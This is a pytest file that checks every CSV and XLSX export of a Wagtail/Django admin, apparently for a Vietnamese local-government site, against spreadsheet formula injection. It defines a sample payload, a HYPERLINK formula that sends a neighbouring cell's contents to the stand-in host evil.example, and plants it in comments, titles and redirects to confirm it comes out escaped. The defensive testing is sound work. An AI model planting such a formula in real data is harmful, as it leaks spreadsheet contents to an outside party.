"""Every CSV/XLSX export of the admin is formula-safe (sites/exports.py): a name or a title typed as a
spreadsheet formula comes out as text, at every export address, and a new export cannot forget it."""

import csv
import io
import zipfile
from datetime import date, timedelta

from django.contrib.auth import get_user_model
from django.urls import URLPattern, URLResolver, get_resolver, resolve
from django.utils import timezone

from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.admin.viewsets import viewsets as admin_viewsets
from wagtail.contrib.redirects.models import Redirect

import pytest
from openpyxl import load_workbook

from documents.models import DraftComment
from sites.exports import FormulaSafeExportMixin, formula_safe, is_formula_safe
from tests.factories import draft_article, legal_document, publish_article

EVIL = '=HYPERLINK("http://evil.example/?"&B2,"Xem")'


def _walk(patterns, prefix=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from _walk(pattern.url_patterns, prefix + str(pattern.pattern))
        elif isinstance(pattern, URLPattern):
            yield prefix + str(pattern.pattern), pattern.callback


def _exports(callback):
    view_class = getattr(callback, "view_class", None)
    if view_class is None or not issubclass(view_class, SpreadsheetExportMixin):
        return False
    initkwargs = getattr(callback, "view_initkwargs", {}) or {}
    return bool(initkwargs.get("list_export") or view_class.list_export) or _sets_columns_itself(view_class)


def _sets_columns_itself(view_class):
    """One of our classes choosing its columns per request (the statistics: ``self.list_export = ...``)."""
    for klass in view_class.__mro__:
        if klass.__module__.startswith("wagtail"):
            continue
        for member in vars(klass).values():
            code = getattr(member, "__code__", None)
            if code is not None and "list_export" in code.co_names:
                return True
    return False


def export_routes():
    """Every admin address whose view can export, as answered (an earlier pattern may shadow a later one)."""
    routes = {}
    for route, callback in _walk(get_resolver().url_patterns):
        if not route.startswith("admin/") or any(mark in route for mark in "<^("):
            continue  # exports are listings at plain addresses
        answering = resolve("/" + route).func
        if _exports(callback) or _exports(answering):
            routes[route] = getattr(answering, "view_class", None)
    return routes


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL, "'" + EVIL),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("  =1+1", "'  =1+1"),
        ("\t=1", "'\t=1"),
        ("\r\n", "'\r\n"),
        ("＝1+1", "'＝1+1"),
        ("Xã Phước Hậu", "Xã Phước Hậu"),
        ("a=b", "a=b"),
        ("−66.7%", "−66.7%"),  # the statistics' minus sign is no formula
        ("", ""),
        (-2, -2),
        (None, None),
    ],
)
def test_formula_safe(value, expected):
    assert formula_safe(value) == expected


def test_every_admin_export_is_formula_safe(db):
    routes = export_routes()
    # the ones known today must be among those found, or the walk itself is broken
    assert {
        "admin/snippets/documents/draftcomment/",
        "admin/reports/editorial-log/",
        "admin/reports/editorial-statistics/",
        "admin/reports/site-history/",
        "admin/reports/locked/",
        "admin/reports/workflow/",
        "admin/reports/workflow_tasks/",
        "admin/reports/aging-pages/",
        "admin/redirects/",
    } <= set(routes)
    unsafe = {route: view for route, view in routes.items() if view is None or not is_formula_safe(view)}
    assert unsafe == {}


def test_our_viewsets_list_formula_safe():
    """Ours, exports or not: adding ``list_export`` later is then safe already."""
    ours = [vs for vs in admin_viewsets.viewsets if not type(vs).__module__.startswith("wagtail")]
    assert ours
    for viewset in ours:
        index_view_class = getattr(viewset, "index_view_class", None)
        if index_view_class is not None and issubclass(index_view_class, SpreadsheetExportMixin):
            assert issubclass(index_view_class, FormulaSafeExportMixin), type(viewset)


# --- the attack, at every export address -------------------------------------------------------------


def _body(response):
    return b"".join(response.streaming_content if response.streaming else [response.content])


def _csv_cells(response):
    text = _body(response).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _xlsx(response):
    data = _body(response)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        sheets = [archive.read(name).decode() for name in names]
    workbook = load_workbook(io.BytesIO(data))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    return sheets, cells


def assert_neutralised(client, url, params=None):
    params = params or {}
    response = client.get(url, {**params, "export": "csv"})
    assert response.status_code == 200, url
    cells = [cell for cell in _csv_cells(response) if "HYPERLINK" in cell]
    assert cells, f"{url}: the evil value is not in the CSV export"
    assert all(cell.startswith("'") for cell in cells), (url, cells)

    response = client.get(url, {**params, "export": "xlsx"})
    assert response.status_code == 200, url
    sheets, cells = _xlsx(response)
    assert all("<f>" not in sheet and "<f " not in sheet for sheet in sheets), url  # no formula anywhere
    evil = [cell for cell in cells if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
    assert evil and all(cell.data_type == "s" for cell in evil), url


@pytest.fixture
def superuser(db):
    return get_user_model().objects.create_superuser("root", "root@example.test", "pw")


def test_draft_comment_export_is_neutralised_for_the_unit_and_the_board(
    client, commune_a, approver_a, board_member
):
    page = legal_document(
        commune_a,
        number="DT-09/UBND",
        disclosure="du-thao-lay-y-kien",
        comment_opens=date.today(),
        comment_closes=date.today() + timedelta(days=5),
    )
    DraftComment.objects.create(page=page, name=EVIL, contact="@evil", body="-1+1")
    for user in (approver_a, board_member):
        client.force_login(user)
        assert_neutralised(client, "/admin/snippets/documents/draftcomment/")
        text = "".join(_csv_cells(client.get("/admin/snippets/documents/draftcomment/", {"export": "csv"})))
        assert "'@evil" in text and "'-1+1" in text


def test_page_reports_are_neutralised(client, commune_a, editor_a, superuser):
    live = publish_article(commune_a, title=EVIL)
    live.locked, live.locked_by, live.locked_at = True, superuser, timezone.now()
    live.save(update_fields=["locked", "locked_by", "locked_at"])
    waiting = draft_article(commune_a, editor_a, title=EVIL + " (chờ duyệt)")
    waiting.get_workflow().start(waiting, editor_a)
    client.force_login(superuser)
    for url in (
        "/admin/reports/locked/",
        "/admin/reports/workflow/",
        "/admin/reports/workflow_tasks/",
        "/admin/reports/site-history/",
        "/admin/reports/aging-pages/",
        "/admin/reports/editorial-log/",
    ):
        assert_neutralised(client, url)


def test_redirects_export_is_neutralised(client, superuser, district):
    Redirect.objects.create(old_path="/cu", redirect_link=EVIL, site=district.site)
    client.force_login(superuser)
    assert_neutralised(client, "/admin/redirects/")


def test_statistics_export_is_neutralised(client, board_member, commune_a, editor_a):
    page = draft_article(commune_a, editor_a, title=EVIL)
    page.get_workflow().start(page, editor_a)
    client.force_login(board_member)
    assert_neutralised(client, "/admin/reports/editorial-statistics/", {"bang": "dang-cho"})
